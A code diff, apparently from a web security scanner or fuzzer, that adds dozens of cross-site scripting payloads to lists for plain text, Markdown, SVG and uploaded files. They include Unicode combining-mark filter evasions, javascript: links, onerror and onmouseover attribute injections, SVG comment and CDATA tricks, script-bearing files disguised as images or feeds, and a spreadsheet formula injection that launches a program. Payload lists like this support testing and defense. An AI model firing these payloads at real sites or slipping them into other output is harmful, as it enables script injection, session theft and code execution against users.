@@ -255,6 +255,11 @@ TEXT += [
         (r"\u0301", "<script>{js}</script>"), (r"\ufe64script\ufe65", "{js}"),
         (r"\uff1cimg src=x onerror=", "{js}\uff1e"),
         (r"\u02ba onmouseover=", "{js} x=\u02ba"), (r"\uff02 onmouseover=", "{js} x=\uff02"),
+        # Marks that make one character with the sign before or after them.
+        (r"'\u0301 onmouseover=", "{js} x='\u0301"), (r"\"\u0301 onmouseover=", "{js} x=\"\u0301"),
+        (r"\u0600\" onmouseover=", "{js} x=\u0600\""), (r"<\u0338img src=x onerror=", "{js}>\u0338"),
+        (r"}\u0301, url = {\u0301javascript:", "{js}}\u0301"), (r"=\u0301cmd|'/c calc'!A1", ""),
+        (r"\u0600<script>", "{js}\u0600</script>"), (r"&\u0301#60;", "script&#62\u0301;{js}"),
     ]
 ]
 
@@ -423,6 +428,34 @@ mailto:x@example.org?subject="onmouseover="{js}
 [x](\javascript:{js})
 [x](javascript\:{js})
 [a](j\a\v\a\s\c\r\i\p\t:{js})
+[x](&#x6A;avascript&#58;{js})
+[x](<java&#10;script:{js}>)
+[x](javascript&amp;colon;{js})
+[x](tel:"onmouseover="{js})
+[x](mailto:x@example.org?body=%0d%0a<script>{js}</script>)
+[x](https://example.org/&#x2028;onmouseover={js})
+[x](https://example.org:javascript@evil.example/{n})
+[x](https://example.org/ "&#34; onmouseover=&#34;{js}")
+![x&#34; onerror=&#34;{js}](assets/picture.png)
+![`" onerror="{js}`](assets/picture.png)
+![![x](javascript:{js})](assets/picture.png)
+[x][javascript:{js}]
+[`<script>{js}</script>`](javascript:{js})
+<xmpp:"onmouseover={js}@example.org>
+<x@example.org"onmouseover={js}>
+x@example.org"onmouseover={js}
+xmpp:x@example.org/javascript:{js}
+$<script>{js}</script>$
+$$ <img src=x onerror={js}> $$
+\(<script>{js}</script>\)
+x^[<script>{js}</script>]
+# [x](javascript:{js})
+- [x] [x](javascript:{js})
+> [!note] <script>{js}</script>
+{#x onmouseover={js}}
+[x]{onmouseover={js}}
+::: {onmouseover={js}}
+<details open ontoggle={js}>
 """.strip("\n").split("\n")
 MARKDOWN = "\n".join(MARKDOWN).replace("[x](<java\nscript", "[x](<java\0script").split("\n")
 MARKDOWN = [text.replace("\0", "\n") for text in MARKDOWN] + [
@@ -435,7 +468,14 @@ MARKDOWN = [text.replace("\0", "\n") for text in MARKDOWN] + [
     "[r]: https://example.org/ '\" onmouseover=\"{js}'\n\n[r]",
     "[r]: https://example.org/\"onmouseover=\"{js}\n\n![r]",
     "[javascript:{js}]: x\n\n[javascript:{js}]", "<a\nhref=javascript:{js}\n>x</a>",
-    "<!-- x\n\n<script>{js}</script>\n\n-->", "- x\n\n  <script>{js}</script>",
+    "<!-- x\n\n<script>{js}</script>\n\n-->",
+    "| a |\n|---|\n| [x](javascript:{js}) |", "| a |\n|---|\n| ![x\" onerror=\"{js}](assets/picture.png) |",
+    "| <b onclick={js}> |\n|---|\n| x |", "x[^1]\n\n[^1]: [x](javascript:{js})",
+    "x[^1]\n\n[^1]: ![x\" onerror=\"{js}](assets/picture.png)", "x[^\"onmouseover={js}]\n\n[^\"onmouseover={js}]: y",
+    "[r]: javascript&colon;{js}\n\n![x][r]", "[r]:\n  javascript:{js}\n\n[r]", "[R]: java\tscript:{js}\n\n[r][]",
+    "[r]: https://example.org/ (\" onmouseover=\"{js})\n\n![x][r]", "[x](javas\ncript:{js})",
+    "$$\n<script>{js}</script>\n$$", "- x",
+    "- x\n\n  <script>{js}</script>",
     "Setext <script>{js}</script>\n===", "\ue000\U000f0000<script>{js}</script>",
 ]
 
@@ -570,6 +610,19 @@ SVG = r"""
 <g onload='{js}'>
 <script>{js}
 <scr<!-- -->ipt>{js}</script>
+<!--> <![CDATA[ --> <script>{js}</script> <!-- ]]> -->
+<!---> <![CDATA[ --> <script>{js}</script> <!-- ]]> -->
+<img xmlns="http://www.w3.org/1999/xhtml" srcset="{url} 1x"/>
+<h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="{url} 1x"/>
+<td xmlns="http://www.w3.org/1999/xhtml" background="{url}">x</td>
+<picture xmlns="http://www.w3.org/1999/xhtml"><source srcset="{url}"/><img/></picture>
+<a href="https://example.org/" ping="{url}"><text>x</text></a>
+<g cursor="image-set('{url}' 1x), auto"><rect width="900" height="900"/></g>
+<g filter="u\72l({url}#x)"/>
+<rect width="9" height="9" mask="u\72l({url}#x)"/>
+<animate attributeName="filter" values="u\72l({url}#x)" dur="1s"/>
+<g style="filter:url&lpar;{url}#x)"/>
+<style>&commat;import "{url}";</style>
 """.strip("\n").split("\n") + ['<g\nonload\n=\n"{js}"/>', '<g\tonload="{js}"/>']
 
 HTML_FILES = {
@@ -581,6 +634,14 @@ HTML_FILES = {
     "x{n}.csv": "\ufeff<html>", "x{n}.md": "<iframe src=x>", "x{n}.webp": "<svg onload={js}>",
     "x{n}.avif": "<svg xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>",
     "x{n}.svg": "GIF89a", "y{n}.svg": "<html/>", "x{n}.json": "<a href=javascript:{js}>",
+    "y{n}": "<!--" + "x" * 5_000 + "--><script>{js}</script>", "z{n}": "<abc><script>{js}</script>",
+    "x{n}.bin": "</x><script>{js}</script>", "y{n}.bin": "\f<scripts><script>{js}</script>",
+    "x{n}.rss": "<rss><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script></rss>",
+    "x{n}.atom": "<feed><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script></feed>",
+    "x{n}.xsd": "<schema><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script></schema>",
+    "x{n}.kml": "<kml/>", "x{n}.mml": "<math/>", "x{n}.rdf": "<rdf:RDF/>",
+    "x{n}.html.de": "x <script>{js}</script>", "x{n}.php": "x", "y{n}.php.jpg": "x", "x{n}.asp": "x",
+    "x{n}.js": "{js}", "x{n}.mjs": "{js}", "x{n}.webarchive": "bplist00", "y{n}.txt": "<svg xmlns='x'/>",
 }
 
 
